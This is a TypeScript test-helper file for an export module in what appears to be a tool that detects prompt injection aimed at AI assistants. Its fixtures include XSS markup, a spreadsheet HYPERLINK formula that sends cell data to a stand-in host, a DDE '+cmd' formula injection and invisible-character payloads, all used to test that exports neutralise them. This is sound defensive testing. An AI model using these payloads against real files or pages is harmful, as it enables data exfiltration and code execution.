// What tests of exports share: words that show their keys, a context, incidents with the worst texts that a page can write.
import { WRITERS } from '../../src/formats/writers.ts';
import { hostCodes, redact } from '../../src/formats/redact.ts';
import type { ExportContext, ExportedIncident, ExportFormat, Words } from '../../src/formats/format.ts';
import type { Incident } from '../../src/model/incident.ts';
import { piecesOf } from '../../src/ui/inert-text.ts';
import { buildIncident } from './incidents.ts';

const words: Words = {
  language: 'en',
  direction: 'ltr',
  t: (key, ...substitutions) => [key, ...substitutions].join(' '),
  label: (group, value) => `${group} ${value}`,
  time: (ms) => new Date(ms).toISOString(),
  number: String,
  percent: (share) => `${Math.round(share * 100)} %`,
};

export const exportContext = (changes: Partial<ExportContext> = {}): ExportContext => ({
  version: '0.1.0',
  now: 1_790_000_100_000,
  count: 1,
  redacted: false,
  uuid: 'b0b0b0b0-0000-4000-8000-000000000000',
  references: { 'assistant-address.made-up': { atlas: ['AML.T0051.001'], owaspLlm: ['LLM01:2025'] } },
  pieces: (text) => piecesOf(text, [], 20_000),
  words,
  ...changes,
});

/** The whole file. */
export function exported(
  format: ExportFormat,
  incidents: readonly ExportedIncident[],
  changes: Partial<ExportContext> = {},
): string {
  const writer = WRITERS[format](exportContext({ count: incidents.length, ...changes }));
  return writer.begin() + incidents.map((i) => writer.add(i)).join('') + writer.end();
}

export const redacted = (incident: Incident): ExportedIncident => redact(incident, (host) => host);
export const coded = (incident: Incident): ExportedIncident => redact(incident, hostCodes(new Uint8Array(16).fill(7)));

let next = 1;
export const newId = (): string => `00000000-0000-4000-8000-${String(next++).padStart(12, '0')}`;

const FINDING = {
  rule: 'assistant-address.made-up',
  family: 'assistant-address',
  severity: 'high',
  confidence: 0.9,
  start: 0,
  end: 13,
  transform: 'base64',
  excerpt: 'made-up words',
} as const;

export const found = (changes: Partial<Incident> = {}): Incident =>
  buildIncident({
    id: newId(),
    verdict: {
      kind: 'malicious',
      severity: 'high',
      confidence: 0.9,
      families: ['assistant-address', 'data-exfiltration'],
      findings: [FINDING],
      layers: [{ transform: 'base64', text: 'made-up layer' }],
    },
    ...changes,
  });

/** Texts that would do something, or hide something, where a format does not hold them. */
export const WORST: Readonly<Record<string, string>> = {
  markup: '<script>alert(1)</script><img src=x onerror="alert(2)"><style>*{display:none}</style></pre></title><!-- -->',
  fences:
    '```\n# heading\n``````\n[a](https://bad.example/?q=1) <https://bad.example> ![p](https://bad.example/p.png)\n~~~',
  autolinks: 'www.bad.example https://bad.example/a someone@bad.example | a | b |\n| - | - |',
  formula: '=HYPERLINK("https://bad.example/?"&A1,"x")',
  formulas: '  +1+cmd|" /C calc"!A0',
  'full-width formula': '＝1+1',
  quotes: 'a "quoted", text; with \'all\'\r\nkinds\tof\u2028breaks\u0085',
  invisible: 'a\u200bb\u202ec\u{e0041}\u{e0042}d\u0000\u0007\u001b[31m',
  lone: 'a\ud800b',
  template: '{{constructor}} ${1} {0} [text](1) \\',
  json: '"}],"results":[{"ruleId":"x"}',
  long: 'x'.repeat(20_000),
  ticks: '`'.repeat(19_999),
};

/** The same hostile text wherever a page can put one. */
export const hostile = (text: string): Incident =>
  found({
    text,
    textLength: text.length,
    snippet: text.slice(0, 2_000),
    path: `html > body > ${text.slice(0, 200)}`,
    name: text.slice(0, 100),
    site: text.slice(0, 200),
    frameSite: text.slice(0, 200),
    url: `https://shop.example/${text.replace(/[?#]/g, '').slice(0, 300)}`,
    concealment: { reason: 'transparent', evidence: { [text.slice(0, 40)]: text.slice(0, 300) } },
    verdict: {
      kind: 'malicious',
      severity: 'critical',
      confidence: 1,
      families: ['assistant-address'],
      findings: [{ ...FINDING, rule: text.slice(0, 80), excerpt: text.slice(0, 200) }],
      layers: [{ transform: 'base64', text: text.slice(0, 4_000) }],
    },
    decision: { ...buildIncident().decision, reason: text.slice(0, 80) },
  });

/** What went into an assistant. */
export const input = (): Incident =>
  found({
    carrier: 'input',
    concealment: null,
    text: '',
    textLength: 40,
    name: 'letter to Erika.docx',
    enforcement: 'released',
    verdict: { kind: 'clean', severity: null, confidence: 0, families: [], findings: [], layers: [] },
    input: {
      way: 'paste',
      outcome: 'sent-anyway',
      reason: 'Erika asked for it',
      account: 'unknown',
      spans: [{ type: 'secret.password', category: 'secret', confidence: 0.9, masked: 'vK…T4', action: 'redact' }],
      spanCount: 1,
      hidden: false,
      foreign: false,
      unscanned: false,
    },
  });
